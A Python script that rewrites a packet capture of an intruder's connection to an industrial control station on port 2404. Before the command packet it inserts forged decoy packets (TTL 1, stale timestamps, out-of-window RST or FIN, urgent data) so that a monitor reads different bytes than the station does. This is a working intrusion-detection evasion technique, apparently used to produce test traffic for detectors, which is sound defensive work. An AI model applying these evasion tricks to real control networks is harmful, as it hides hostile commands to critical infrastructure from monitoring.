"""An attack that is sent so that who looks on reads something else: `evasion.py demo.pcap evasion.pcap`.

Takes one connection of the intruder out of a capture, and puts a packet before its command that the station drops, or that dies on its
way: each time between other ports, with another packet. The last time there is none.
"""

import struct
import sys

from injection import checksum

PORT = 33894  # the intruder's, of the connection with the command
COMMAND = 16  # octets of data: nothing else that he sends is as long
FIN, SYN, RST, PSH, ACK, URG = 1, 2, 4, 8, 16, 32
SECONDS = 20  # between the connections

# What the forged packet has otherwise than the command; `ahead` is added to its number, `clock` to its timestamp.
FORGED = (
    {"clock": -1000},
    {"ttl": 1},
    {"flags": PSH},
    {"flags": RST, "ahead": 1 << 28, "data": b""},
    {"flags": FIN | ACK, "ahead": 1 << 28, "data": b""},
    {"flags": ACK | URG, "urgent": 4, "data": b""},
    {},
    None,
)


def connection(path: str):
    """Time, and the frame from the IP header on."""
    with open(path, "rb") as file:
        head, octets = file.read(24), file.read()
    order = "<" if head[:4] in (b"\xd4\xc3\xb2\xa1", b"\x4d\x3c\xb2\xa1") else ">"
    per_second = 1_000_000_000 if head[:4] in (b"\x4d\x3c\xb2\xa1", b"\xa1\xb2\x3c\x4d") else 1_000_000
    link = struct.unpack(order + "I", head[20:24])[0]
    skip = {1: 14, 113: 16, 276: 20, 101: 0}[link & 0xFFFF]
    place = 0
    while place < len(octets):
        seconds, part, length, _ = struct.unpack(order + "IIII", octets[place : place + 16])
        frame = octets[place + 16 + skip : place + 16 + length]
        place += 16 + length
        if frame[:1] == b"\x45" and frame[9] == 6 and PORT in struct.unpack(">HH", frame[20:24]):
            yield seconds * 1_000_000 + part * 1_000_000 // per_second, frame


def sealed(frame: bytes) -> bytes:
    """With right lengths and checksums."""
    head, segment = frame[:20], frame[20:]
    head = head[:2] + struct.pack(">H", len(frame)) + head[4:10] + bytes(2) + head[12:]
    head = head[:10] + checksum(head) + head[12:]
    segment = segment[:16] + bytes(2) + segment[18:]
    pseudo_header = head[12:20] + struct.pack(">HH", 6, len(segment))
    return head + segment[:16] + checksum(pseudo_header + segment) + segment[18:]


def moved(frame: bytes, number: int) -> bytes:
    """Between other ports."""
    ports = (port + number if port == PORT else port for port in struct.unpack(">HH", frame[20:24]))
    return sealed(frame[:20] + struct.pack(">HH", *ports) + frame[24:])


def forged(frame: bytes, ttl=64, flags=ACK | PSH, ahead=0, clock=0, urgent=0, data=None) -> bytes:
    """Beside the command: its octets are others, each."""
    offset = (frame[32] >> 4) * 4
    head, segment, command = frame[:20], frame[20 : 20 + offset], frame[20 + offset :]
    assert segment[20:24] == b"\x01\x01\x08\x0a", "timestamps"
    number, stamp = struct.unpack(">I", segment[4:8])[0], struct.unpack(">I", segment[24:28])[0]
    segment = segment[:4] + struct.pack(">I", (number + ahead) % 2**32) + segment[8:13] + bytes([flags]) + segment[14:]
    segment = segment[:18] + struct.pack(">H", urgent) + segment[20:24] + struct.pack(">I", stamp + clock) + segment[28:]
    if data is None:
        data = bytes(octet ^ 0x20 for octet in command)
    return sealed(head[:8] + bytes([ttl]) + head[9:] + segment + data)


def main(source: str, target: str) -> None:
    packets = list(connection(source))
    with open(target, "wb") as file:
        file.write(struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 262144, 101))
        for number, other in enumerate(FORGED):
            for time, frame in packets:
                time += number * SECONDS * 1_000_000
                frame = moved(frame, number)
                to_station = struct.unpack(">H", frame[22:24])[0] == 2404
                command = to_station and len(frame) - 20 - (frame[32] >> 4) * 4 == COMMAND
                beside = [forged(frame, **other)] if command and other is not None else []
                for one in (*beside, frame):
                    file.write(struct.pack("<IIII", *divmod(time, 1_000_000), len(one), len(one)) + one)


if __name__ == "__main__":
    main(*sys.argv[1:])
